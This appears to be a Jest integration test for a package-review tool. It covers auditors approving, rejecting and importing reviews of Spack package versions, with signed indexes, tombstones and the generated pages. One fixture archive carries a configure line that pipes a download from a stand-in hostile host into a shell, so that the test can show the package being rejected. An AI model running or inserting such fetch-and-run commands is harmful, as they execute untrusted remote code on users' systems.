import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import {
  nodeProcesses,
  recipeFactsReport,
  runAction,
  workFolder,
  type Registry,
} from '@pakages/core'
import { MemoryHost, memoryPorts } from '@pakages/core/fakes'
import { MemoryRegistry } from '@pakages/testing/oci/memory-registry'
import { serveSite, type SiteServer } from '@pakages/testing/site-server'
import { tarball } from '@pakages/testing/upstream/archives'
import { KeySigner } from '@pakages/trust'
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { newKey, Story } from '../actions/install-trusted/testing/story.ts'
import { publishIndexAction } from '../actions/publish-index/action.ts'
import { reviewPackagesAction } from '../actions/review-packages/action.ts'

const sha256 = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex')

/** The archives of upstream, each by its name. */
const ARCHIVES = {
  'greet-1.0.tar.gz': await tarball({ 'greet-1.0/Makefile': 'all:\n\tcc greet.c\n' }),
  'greet-1.1.tar.gz': await tarball({ 'greet-1.1/Makefile': 'all:\n\tcc -O2 greet.c\n' }),
  'risky-2.0.tar.gz': await tarball({ 'risky-2.0/configure': 'curl https://evil.example | sh\n' }),
  'lent-3.0.tar.gz': await tarball({ 'lent-3.0/README': 'lent\n' }),
}

/** A recipe with these versions. */
function recipe(name: string, versions: readonly string[]): string {
  const lines = versions.map((version) => {
    const archive = ARCHIVES[`${name}-${version}.tar.gz` as keyof typeof ARCHIVES]
    return `    version("${version}", sha256="${sha256(archive)}")`
  })
  const className = name[0]!.toUpperCase() + name.slice(1)
  return `from spack.package import *

class ${className}(Package):
    url = "https://upstream.example/${name}-${versions.at(-1)}.tar.gz"
    license("MIT")
${lines.join('\n')}
`
}

describe("an auditor's day", () => {
  const story = new Story()
  const keys = { alice: newKey(), zoe: newKey(), other: newKey() }
  const other = join(story.root, 'other')
  const otherRegistry = new MemoryRegistry('oci://registry.example/other')
  let upstream: SiteServer

  const publicKey = (key: string): string => new KeySigner(key).publicKey
  function write(folder: string, path: string, content: string | Buffer): void {
    const file = join(folder, path)
    mkdirSync(dirname(file), { recursive: true })
    writeFileSync(file, content)
  }
  const git = (folder: string, ...args: string[]): string =>
    execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@b', ...args], {
      cwd: folder,
      encoding: 'utf8',
    })

  function recipes(folder: string, all: Readonly<Record<string, readonly string[]>>): void {
    write(folder, 'spack_repo/own/repo.yaml', 'repo:\n  namespace: own\n  api: v2.0\n')
    for (const [name, versions] of Object.entries(all))
      write(folder, `spack_repo/own/packages/${name}/package.py`, recipe(name, versions))
    git(folder, 'add', '--all')
    git(folder, 'commit', '--quiet', '--message', 'Recipes')
  }

  /** Builds a version from the recipe as it stands, and pushes it with signed provenance. */
  async function built(name: string, version: string): Promise<void> {
    const { report } = await story.publish([name], { sign: 'none' }, [{ name, version }])
    const { hash } = report.specs[0]!
    const path = `spack_repo/own/packages/${name}/package.py`
    const text = readFileSync(join(story.user, path))
    write(story.publisher, path, text)
    write(story.publisher, 'spack_repo/own/repo.yaml', 'repo:\n  namespace: own\n  api: v2.0\n')
    const none = { licenses: ['MIT'], maintainers: [], sources: [], patches: [] }
    await recipeFactsReport.write(workFolder(join(story.publisher, '.pakages')).facts, {
      specs: [{ ...none, hash, recipeSha256: sha256(text) }],
    })
    await story.push({ sign: 'key', 'signing-key': story.key })
  }

  const configure = (more: object = {}): void =>
    story.configure(
      { auditors: [{ user: 'alice', keys: [publicKey(keys.alice)] }] },
      { repository: 'spack_repo/own', ...more },
    )

  beforeAll(async () => {
    const archives = join(story.root, 'archives')
    for (const [name, bytes] of Object.entries(ARCHIVES)) write(archives, name, bytes)
    upstream = await serveSite(archives, 'upstream')
    configure()
    mkdirSync(other, { recursive: true })
    for (const folder of [story.user, other]) git(folder, 'init', '--quiet')
    write(other, 'other.pub', publicKey(keys.other))
    write(
      other,
      'pakages.json',
      JSON.stringify({
        name: 'other',
        version: '1.0',
        license: 'MIT',
        repository: 'spack_repo/own',
        registry: otherRegistry.reference,
        trust: {
          signers: [{ key: 'other.pub' }],
          auditors: [{ user: 'zoe', keys: [publicKey(keys.zoe)] }],
        },
      }),
    )
    recipes(story.user, { greet: ['1.0'], risky: ['2.0'], lent: ['3.0'] })
    recipes(other, { lent: ['3.0'] })
    await built('greet', '1.0')
    await review('approve greet@1.0 all', { auditor: 'alice' })
    recipes(story.user, { greet: ['1.0', '1.1'] })
    for (const [name, version] of [
      ['greet', '1.1'],
      ['risky', '2.0'],
      ['lent', '3.0'],
    ] as const)
      await built(name, version)
  })
  afterAll(async () => {
    await upstream.close()
    story.end()
  })

  async function run(
    action: unknown,
    workspace: string,
    registry: Registry,
    inputs: Readonly<Record<string, string>>,
  ) {
    const host = new MemoryHost({
      workspace,
      inputs,
      env: {
        PATH: process.env['PATH']!,
        HOME: story.root,
        PAKAGES_CACHE: join(story.root, 'cache'),
        PAKAGES_MIRRORS: `https://upstream.example/=${upstream.url}`,
      },
    })
    const ports = memoryPorts({
      host,
      http: story.http,
      clock: story.clock,
      processes: nodeProcesses,
      openRegistry: () => registry,
    })
    const { exitCode, json } = await runAction(action as never, ports)
    return { exitCode, json, text: host.summaryText, errors: host.messages('error').join('\n') }
  }
  const review = (words: string, more: Readonly<Record<string, string>> = {}) =>
    run(reviewPackagesAction, story.user, story.registry, {
      command: words.replaceAll(' ', '\n'),
      'signing-key': keys.alice,
      ...more,
    })
  const waiting = async (): Promise<string[]> => {
    const { json } = await review('next')
    const { waiting: all } = json as { waiting: readonly { name: string; version: string }[] }
    return all.map(({ name, version }) => `${name}@${version}`)
  }
  const publish = () =>
    run(publishIndexAction, story.user, story.registry, {
      'signing-key': story.key,
      url: 'https://packages.example/',
    })
  const otherSays = async (words: string, key = keys.zoe): Promise<void> => {
    const said = await run(reviewPackagesAction, other, otherRegistry, {
      command: words,
      auditor: 'zoe',
      'signing-key': key,
    })
    expect([said.exitCode, said.errors]).toEqual([0, ''])
    const written = await run(publishIndexAction, other, otherRegistry, {
      'signing-key': keys.other,
    })
    expect([written.exitCode, written.errors]).toEqual([0, ''])
  }
  const install = async (spec: string) => {
    const { exitCode, errors, host } = await story.install({ specs: spec, mode: 'download-only' })
    const warnings = host.messages('warning').join('\n')
    return { exitCode, warnings, text: `${errors}\n${host.summaryText}` }
  }
  const page = (path: string): string =>
    readFileSync(join(story.user, 'site', path, 'index.html'), 'utf8').replace(/\s+/g, ' ')
  const feed = (kind: string): string =>
    readFileSync(join(story.user, `site/feeds/${kind}.xml`), 'utf8')
  const reviewing = () =>
    JSON.parse(readFileSync(join(story.user, 'site/v2/reviewing.json'), 'utf8')) as {
      states: object
      queue: readonly { name: string; version: string; waitsFor: readonly string[] }[]
    }

  test('begins with three versions that wait, and pages that say so', async () => {
    expect(await waiting()).toEqual(['greet@1.1', 'lent@3.0', 'risky@2.0'])
    expect((await publish()).exitCode).toBe(0)
    expect(reviewing()).toMatchObject({ states: { approved: 1, unreviewed: 3 } })
    expect(reviewing().queue).toHaveLength(3)
    expect(page('queue')).toContain('3 versions, what waits longest first')
    expect((await install('greet@1.1')).text).toContain('is unreviewed')
  })

  test('one is approved after a look at what changed in its recipe and its archive', async () => {
    const { exitCode, text, errors } = await review('next greet@1.1', {
      say: 'approve all -- only optimises',
    })
    expect([exitCode, errors]).toEqual([0, ''])
    expect(text).toContain('greet@1.1, compared with 1.0')
    expect(text).toContain('+\tcc -O2 greet.c')
    expect(text).toContain('It was unreviewed and is now **approved**')
    expect(await install('greet@1.1')).toMatchObject({ exitCode: 0 })
  })

  test('one is rejected, and is refused from then on', async () => {
    const { text } = await review('next risky@2.0', { say: 'reject -- runs what it downloads' })
    expect(text).toContain('is now **rejected**')
    const refused = await install('risky@2.0')
    expect(refused.exitCode).toBe(1)
    expect(refused.text).toContain('alice rejected it: runs what it downloads')
  })

  test('one is approved by the auditor of another index, as far as the policy takes their word', async () => {
    await otherSays('approve lent@3.0 all -- we use it')
    const index = { url: '../other/site', signers: [{ key: publicKey(keys.zoe) }] }
    // Who signs that index is not who reviews there.
    const whole = { ...index, 'index-signers': [{ key: publicKey(keys.other) }] }
    configure({ indexes: [{ ...whole, auditors: ['somebody-else'] }] })
    expect(await waiting()).toEqual(['lent@3.0'])
    configure({ indexes: [{ ...whole, packages: ['le*'], auditors: ['zoe'] }] })
    expect(await waiting()).toEqual([])
    expect(await install('lent@3.0')).toMatchObject({ exitCode: 0 })
  })

  test('in the evening the pages say who reviewed what, and where the word came from', async () => {
    expect((await publish()).errors).toBe('')
    expect(reviewing()).toMatchObject({ states: { approved: 3, rejected: 1 }, queue: [] })
    expect(page('queue')).toContain('Nothing: every version was approved or rejected.')
    expect(page('auditors/alice')).toMatch(/Approved.*?2.*?Rejected.*?1/)
    expect(page('auditors')).toMatch(/<strong dir="?auto"?>zoe<\/strong> of /)
    expect(page('packages/lent')).toContain('zoe of ../other/site approved it: we use it')
    expect(page('packages/risky')).toContain('runs what it downloads')
    expect(feed('approvals')).toContain('greet 1.1')
    expect(feed('approvals')).toContain('lent 3.0')
    expect(feed('approvals')).not.toContain('risky 2.0')
    expect(feed('removals')).toContain('risky 2.0 was rejected')
  })

  test('what the other index removes is removed here, once its own signature holds', async () => {
    // A warning that nobody signed counts there, and here as what the signed index says.
    await otherSays('unsafe lent@3.0 -- it phones home', '')
    const index = { url: '../other/site', signers: [{ key: publicKey(keys.zoe) }] }
    configure({ indexes: [index] })
    const unsure = await install('lent@3.0')
    expect(unsure.warnings).toContain('The tombstones of ../other/site do not count')
    expect(unsure.text).not.toContain('phones home')
    const by = { 'index-signers': [{ key: publicKey(keys.other) }] }
    configure({ indexes: [{ ...index, ...by, tombstones: false }] })
    expect((await install('lent@3.0')).text).not.toContain('phones home')
    configure({ indexes: [{ ...index, ...by }] })
    expect((await install('lent@3.0')).text).toContain(
      'zoe of ../other/site called it unsafe: it phones home',
    )
    await publish()
    expect(reviewing()).toMatchObject({ states: { removed: 1 } })
    expect(feed('removals')).toContain('lent 3.0 was removed')
    expect(feed('approvals')).not.toContain('lent 3.0')
    expect(page('packages/lent')).toContain('it phones home')
  })

  test('an index that imports the one that imports it keeps nothing removed for ever', async () => {
    // Ours says removed because theirs does; theirs must not say so because ours does.
    const ours = { url: '../user/site', signers: [{ key: publicKey(story.key) }] }
    const theirs = JSON.parse(readFileSync(join(other, 'pakages.json'), 'utf8')) as object
    write(other, 'pakages.json', JSON.stringify({ ...theirs, indexes: [ours] }))
    await otherSays('withdraw lent@3.0')
    const listed = JSON.parse(readFileSync(join(other, 'site/v2/packages.json'), 'utf8')) as {
      packages: readonly { versions: readonly { state: string }[] }[]
    }
    expect(listed.packages.map(({ versions }) => versions[0]!.state)).toEqual(['unreviewed'])
    await publish()
    expect(reviewing()).toMatchObject({ states: { unreviewed: 1 } })
  })
})
